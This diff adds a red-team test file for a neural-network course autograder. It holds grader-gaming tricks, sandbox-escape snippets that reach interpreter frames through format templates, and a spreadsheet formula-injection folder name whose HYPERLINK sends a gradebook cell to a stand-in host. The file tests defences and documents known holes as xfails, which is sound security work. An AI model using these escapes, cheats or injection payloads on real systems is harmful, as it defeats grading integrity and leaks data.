@@ -1,0 +1,266 @@
+"""A fifth red-team pass (issue 21's "done when"), by someone who did not write the grader.
+
+Each hostile file earns credit it must not: hw1 parts (tests/submissions/hw1/rt5_*.py) are appended to
+the correct base, so their classes replace the base's, or to the untouched stub; the hw2 part
+(tests/submissions/hw2/rt5_*.py) to hw2's correct base. Each asserts the credit it must not earn. Each
+fair file (rt5_fair_*.py) is correct code in an unusual legitimate style and asserts full credit. The
+ones the grader gets wrong today are strict xfails whose reason says where the hole is: remove the mark
+when fixed.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import io
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from course_nn import registry
+from course_nn.grading import engine, report, review
+
+ROOT = Path(__file__).resolve().parents[1]
+PARTS1 = ROOT / "tests" / "submissions" / "hw1"
+PARTS2 = ROOT / "tests" / "submissions" / "hw2"
+STUB1 = ROOT / "assignments" / "hw1_autograd" / "functions.py"
+HW1, HW2 = registry.get("hw1"), registry.get("hw2")
+GATED = ("backward", "gradcheck", "edge")
+
+
+def _open(reason: str):
+    return pytest.mark.xfail(strict=True, reason=reason)
+
+
+def _grade(tmp_path: Path, assignment, base: Path, part: Path):
+    path = tmp_path / assignment.submission
+    path.write_text(base.read_text() + "\n\n" + part.read_text())
+    with contextlib.redirect_stdout(io.StringIO()):  # fair files may print
+        return engine.grade(path, assignment, seed=3, isolate=False)
+
+
+def _earned(result) -> dict[tuple[str, str], float]:
+    return {(o.task, o.category): o.fraction for o in result.outcomes}
+
+
+# ----------------------------------------------------------------------------------------------
+# hw1: numerical differentiation the watch does not see (child/numdiff_watch.py). The watch compares a
+# result with an input only when it has the input's size (or 2-4 stacked copies) and only element by
+# element in the input's order; the accuracy cases stop a plain central difference of sigmoid but not a
+# difference of log(1 + exp(-z)), nor a complex step carried in real pairs.
+
+_PADDED = ("x ± h exist only inside a tensor of numel + 1 elements (one spare element appended), which "
+           "Watch.see never compares with the input (sizes n and 2-4·n only); {}")
+_FLIPPED = ("the nudged copy is the input reversed (flip) plus a small step: _check/_nudged compare it with "
+            "the input element by element in the input's order, so d = flip(x) + h - x is neither small nor "
+            "uniform; {}")
+_SIGMOID_LOG = ("Sigmoid's slope of log(1 + exp(-z)) by central differences is accurate to ~1e-11 "
+                "at z = 16..19, inside the accuracy cases' 1e-7")
+NUMERICAL = [
+    pytest.param("rt5_numdiff_padded_nudge", "Square", id="padded-square", marks=_open(
+        _PADDED.format("Square's small central step earns full credit"))),
+    pytest.param("rt5_numdiff_padded_nudge", "ReLU", id="padded-relu", marks=_open(
+        _PADDED.format("ReLU's relative step never straddles the kink"))),
+    pytest.param("rt5_numdiff_padded_nudge", "Sigmoid", id="padded-sigmoid-log-space", marks=_open(
+        _PADDED.format(_SIGMOID_LOG))),
+    pytest.param("rt5_numdiff_flipped_nudge", "Square", id="flipped-square", marks=_open(
+        _FLIPPED.format("Square earns full credit"))),
+    pytest.param("rt5_numdiff_flipped_nudge", "ReLU", id="flipped-relu", marks=_open(
+        _FLIPPED.format("ReLU earns full credit"))),
+    pytest.param("rt5_numdiff_flipped_nudge", "Sigmoid", id="flipped-sigmoid-log-space", marks=_open(
+        _FLIPPED.format(_SIGMOID_LOG))),
+    pytest.param("rt5_numdiff_flipped_losses", "SquaredError", id="flipped-squared-error", marks=_open(
+        _FLIPPED.format("SquaredError differencing each element's own term earns full credit"))),
+    # held: C re-runs of the row losses per backward is seen as work growing with the input's size
+    pytest.param("rt5_numdiff_flipped_losses", "CrossEntropy", id="flipped-cross-entropy-columns"),
+    pytest.param("rt5_numdiff_batched_class_steps", "CrossEntropy", id="cross-entropy-batched-class-steps",
+                 marks=_open("every nudged copy of the logits at once, z[:, None, :] ± h·I, an (N, C, C) tensor "
+                             "that Watch.see never compares (its size is no input's, nor 2-4 times one), the "
+                             "row losses re-run in a handful of ops, differences in float64: CrossEntropy "
+                             "earns its full 25 points")),
+    # held: the batched nudges of weight and bias are seen (9 of 10 cases)
+    pytest.param("rt5_numdiff_batched_linear", "Linear", id="linear-batched-basis-steps"),
+    pytest.param("rt5_numdiff_complex_step_in_pairs", "Sigmoid", id="complex-step-in-real-pairs", marks=_open(
+        "the complex step Im f(z + ih)/h computed on (real, imaginary) pairs of real tensors: no complex "
+        "tensor for Watch.complex, no nudged copy (h lives only in the imaginary part), exact to machine "
+        "precision so the accuracy cases pass; Sigmoid earns full credit")),
+]
+
+
+@pytest.mark.parametrize(("name", "task"), NUMERICAL)
+def test_a_numerical_derivative_earns_no_backward_credit(tmp_path, name, task):
+    part = PARTS1 / f"{name}.py"
+    assert f"class {task}(" in part.read_text()
+    result = _grade(tmp_path, HW1, PARTS1 / "correct_base.py", part)
+    earned = _earned(result)
+    assert earned[(task, "forward")] == 1, report.details(result)  # forward did nothing wrong
+    assert {c: earned[(task, c)] for c in GATED} == {c: 0 for c in GATED}, report.details(result)
+
+
+HW1_FAIR = [
+    pytest.param("rt5_fair_setup_context_styles", id="setup-context-once-differentiable-row-loops"),
+    pytest.param("rt5_fair_global_max_shift", id="cross-entropy-global-max-shift", marks=_open(
+        "false positive: `logits - logits.max()` (one constant for the whole batch, as exact as a row-wise "
+        "max) is a uniform shift of the input, which _nudged takes for a finite-difference step in every "
+        "case: CrossEntropy loses backward, gradcheck, edge and compliance (20 of 25 points)")),
+]
+
+
+@pytest.mark.parametrize("name", HW1_FAIR)
+def test_an_honest_hw1_style_keeps_full_credit(tmp_path, name):
+    result = _grade(tmp_path, HW1, PARTS1 / "correct_base.py", PARTS1 / f"{name}.py")
+    assert result.score == pytest.approx(HW1.total_points), report.details(result)
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "review/shortcuts.py charges a built-in to the Function whose list names it, wherever the line is, and the "
+    "runtime recorder matches only the running Function's own names: Sigmoid's forward computed by "
+    "F.binary_cross_entropy_with_logits (-log sigmoid) in a module-level helper keeps Sigmoid's forward "
+    "credit, while the honest CrossEntropy loses all 25 points"))
+def test_a_sigmoid_computed_by_another_tasks_built_in_earns_no_forward_credit(tmp_path):
+    result = _grade(tmp_path, HW1, PARTS1 / "correct_base.py", PARTS1 / "rt5_shortcut_sigmoid_from_bce.py")
+    earned = _earned(result)
+    assert earned[("Sigmoid", "forward")] == 0 and earned[("Sigmoid", "compliance")] == 0, report.details(result)
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "in-process grading (isolate=False, the students' own test runs) turns one Function's meta-device output "
+    "(NotImplementedError from torch while its result is copied) into `your file could not be imported` for "
+    "every task: 0/100 where the sandboxed grading gives 75 (and calls it `not implemented`)"))
+def test_one_functions_meta_output_costs_only_that_function_in_process(tmp_path):
+    result = _grade(tmp_path, HW1, PARTS1 / "correct_base.py", PARTS1 / "rt5_meta_tensor_output.py")
+    lost = {t for (t, _), f in _earned(result).items() if f < 1}
+    assert lost == {"CrossEntropy"}, report.details(result)
+
+
+# ----------------------------------------------------------------------------------------------
+# hw2: the MLP's data flow (grading/hw2/flow.py, child/probe_hw2.py)
+
+@pytest.mark.xfail(strict=True, reason=(
+    "a decoy MLP computes every layer with primitives: the shift is learned in forward with .apply on "
+    "zeros (no backward then), the gain only inside its own Function's backward during the real backward "
+    "pass, which _count_backward no longer treats as a decoy; output and gradients carry every mark and "
+    "the MLP earns its 20 points"))
+def test_a_decoy_that_learns_the_gain_during_backward_earns_nothing(tmp_path):
+    result = _grade(tmp_path, HW2, PARTS2 / "correct_base.py", PARTS2 / "rt5_mlp_decoy_gain_in_backward.py")
+    mlp = {c: f for (t, c), f in _earned(result).items() if t == "MLP"}
+    assert mlp and all(f == 0 for f in mlp.values()), report.details(result)
+
+
+HW2_FAIR = [
+    pytest.param("rt5_fair_mlp_recursive_parameter_list", id="recursive-forward-parameter-list"),
+    pytest.param("rt5_fair_mlp_layer_dict", id="layer-modules-in-module-dict-reversed-steps"),
+    pytest.param("rt5_fair_mlp_name_table_checked", id="name-dict-also-membership-tested", marks=_open(
+        "false positive: getattr(self.functions, _ACTIVATION[...]) with _ACTIVATION a module-level dict of "
+        "handed names is refused as an escape (0/100 for the whole file) once the same dict is also used "
+        "in `activation not in _ACTIVATION`: review/dynamic.py accepts a dict bound to a name only when "
+        "the name is only ever indexed, though a membership test changes none of its values")),
+]
+
+
+@pytest.mark.parametrize("name", HW2_FAIR)
+def test_an_honest_mlp_style_keeps_full_credit(tmp_path, name):
+    result = _grade(tmp_path, HW2, PARTS2 / "correct_base.py", PARTS2 / f"{name}.py")
+    assert result.score == pytest.approx(HW2.total_points), report.details(result)
+
+
+# ----------------------------------------------------------------------------------------------
+# The gate: `.format` reads attributes by the names in its template (review/expressions.py refuses a
+# template with `{0.x}` fields), but `getattr(TEMPLATE, "format")` and `case str(format=f)` are checked as
+# a plain attribute. (The same holds for format_map, a name from a dict or a conditional, and hasattr.)
+
+_FORMAT = "rt5_format_through_getattr"
+_FORMAT_HOLE = ("review/dynamic.py checks getattr(x, \"format\") as the attribute `x.format` on an unknown "
+                "value and never reads the template's fields: `{0.gi_frame.f_back...}` walks from a running "
+                "generator to the child's frames")
+
+
+def _stub_with(name: str) -> str:
+    return STUB1.read_text() + "\n\n" + (PARTS1 / f"{name}.py").read_text()
+
+
+@pytest.mark.parametrize("name", [
+    pytest.param(_FORMAT, id="getattr-literal-name", marks=_open(_FORMAT_HOLE)),
+    pytest.param("rt5_format_through_match", id="match-class-keyword", marks=_open(
+        "rules.py's class-pattern rule checks `case str(format=fmt)` as `subject.format` on an unknown value "
+        "and never reads the template's fields: fmt is a bound format of a template held in a variable")),
+])
+def test_a_format_template_taken_another_way_is_refused(name):
+    source = _stub_with(name)
+    hole = next(i for i, line in enumerate(source.splitlines(), 1) if line.rstrip().endswith("# hole"))
+    assert hole in {v.line for v in review.check(source, HW1).escapes}
+
+
+@pytest.mark.sandbox
+@pytest.mark.xfail(strict=True, reason=_FORMAT_HOLE + "; through the real CLI the student's feedback shows "
+                   "the runner's locals (the job, its cases, the framing module)")
+def test_a_format_template_through_getattr_shows_no_frame_in_feedback(tmp_path):
+    path, out = tmp_path / "functions.py", tmp_path / "out.json"
+    path.write_text(_stub_with(_FORMAT))
+    run = subprocess.run([sys.executable, "-m", "course_nn", "grade", str(path), "-a", "hw1", "--json", str(out)],
+                         capture_output=True, text=True, timeout=300)
+    assert out.exists(), run.stderr[-2000:]
+    results = json.loads(out.read_text())
+    assert results["score"] == 0
+    shown = run.stdout + json.dumps(results)
+    assert "'job'" not in shown and "run_case" not in shown, shown[:3000]
+
+
+# Attacks this pass tried that the gate refused (each appended to the untouched stub, refused as an escape).
+_PEEK = """
+class _Peek:
+    def __init__(self):
+        self.ctypes = None
+
+    def forward(self):
+        return self.ctypes
+
+"""
+HELD = {
+    "fullwidth-gi-frame": "def _g():\n    yield 1\n_f = _g().\uff47\uff49_frame\n",
+    "str-format-unbound": "def _g():\n    yield 1\n_s = str.format(\"{0.gi_frame}\", _g())\n",
+    "nested-format-spec": "def _g():\n    yield 1\n_s = \"{0:{1.gi_frame}}\".format(1, _g())\n",
+    "format-as-map-callable": "_s = list(map(str.format, [\"{0}\"], [1]))\n",
+    "template-in-variable": "_t = \"{0.real}\"\n_s = _t.format(1)\n",
+    "class-body-del-falls-to-global": _PEEK + "class _H:\n    _Peek = 0\n    del _Peek\n    got = [_Peek]\n",
+    "class-body-comprehension-scope": _PEEK + "class _H:\n    _Peek = 1\n    got = [x for x in [1] if _Peek]\n",
+    "classmethod-returns-cls": _PEEK + "class _Q(_Peek):\n    @classmethod\n    def me(cls):\n        return cls\n",
+    "self-rebound-by-nonlocal": _PEEK + ("class _Q(_Peek):\n    def me(self, o):\n        def inner():\n"
+                                         "            nonlocal self\n            self = o\n        inner()\n"
+                                         "        return self.ctypes\n"),
+    "getattr-listed-class-method": "_m = getattr(torch.nn.Module, \"state_dict\")\n",
+    "type-three-args": "_T = type(\"T\", (), {\"x\": 1})\n",
+}
+
+
+@pytest.mark.parametrize("snippet", list(HELD.values()), ids=list(HELD))
+def test_an_attack_the_gate_held_is_refused_at_its_own_lines(snippet):
+    stub = STUB1.read_text() + "\n\n"
+    source = stub + snippet
+    escapes = review.check(source, HW1).escapes
+    first = len(stub.splitlines()) + 1
+    assert escapes and all(v.line >= first for v in escapes), [v.text() for v in escapes]
+
+
+# ----------------------------------------------------------------------------------------------
+# The gradebook: a folder name is student text too (LMS exports name folders after the student). A cell
+# that starts with = + - @ is a formula to the spreadsheet the instructor opens the CSV in.
+
+@pytest.mark.sandbox
+@pytest.mark.xfail(strict=True, reason=(
+    "cli_batch._write_csv writes the student column verbatim: a folder named `=HYPERLINK(...)` is a live "
+    "formula in the gradebook (CSV/formula injection); prefix such cells with a quote"))
+def test_a_student_folder_name_is_no_formula_in_the_gradebook(tmp_path):
+    name = '=HYPERLINK("evil.example?"&B3,"details")'  # no slash: one folder
+    (tmp_path / "subs" / name).mkdir(parents=True)
+    (tmp_path / "subs" / name / "functions.py").write_text(STUB1.read_text())
+    book = tmp_path / "grades.csv"
+    run = subprocess.run([sys.executable, "-m", "course_nn", "grade-batch", str(tmp_path / "subs"), "-a", "hw1",
+                          "--jobs", "1", "--csv", str(book), "--quiet"], capture_output=True, text=True, timeout=300)
+    assert book.exists(), run.stderr[-2000:]
+    cells = [cell for row in csv.reader(io.StringIO(book.read_text())) for cell in row]
+    assert any("evil.example" in c for c in cells)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
